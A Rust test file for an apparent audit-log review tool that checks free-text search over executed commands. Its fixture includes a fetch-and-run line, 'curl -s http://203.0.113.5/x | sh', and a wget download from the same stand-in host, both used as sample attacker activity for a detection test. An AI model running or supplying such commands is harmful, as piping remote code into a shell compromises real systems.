//! What was run is found by free text: `exec` commands and enhanced-recording commands.

use review_core::ingest::{Ingest, Options};
use review_core::query::Filter;

#[test]
fn free_text_finds_what_was_run() {
    let log = concat!(
        r#"{"event":"exec","command":"curl -s http://203.0.113.5/x | sh","user":"mallory","sid":"s1","time":"2024-03-01T10:00:00Z"}"#,
        "\n",
        r#"{"event":"session.command","program":"wget","argv":["-q","http://203.0.113.5/y"],"path":"/usr/bin/wget","user":"mallory","sid":"s1","time":"2024-03-01T10:01:00Z"}"#,
        "\n",
        r#"{"event":"exec","command":"uptime","error":"exit status 1","user":"bob","time":"2024-03-01T10:02:00Z"}"#,
        "\n",
        r#"{"event":"user.login","user":"alice","success":true,"time":"2024-03-01T10:03:00Z"}"#,
        "\n",
    );
    let mut ing = Ingest::new(Options::default());
    ing.add_bytes("a.log", log.as_bytes());
    let mut m = ing.finish();
    m.ensure_sorted();
    let users = |q: &str| -> Vec<String> {
        let f = Filter::new(q, &m).unwrap();
        m.events.iter().filter(|e| f.matches_event(e)).map(|e| m.str(e.user).to_owned()).collect()
    };
    assert_eq!(users("curl"), ["mallory"]);
    assert_eq!(users("error:*wget*"), ["mallory"]);
    assert_eq!(users("203.0.113.5"), ["mallory", "mallory"]);
    // An error is shown before the command it came from.
    assert_eq!(users("exit"), ["bob"]);
    assert!(users("uptime").is_empty());
}
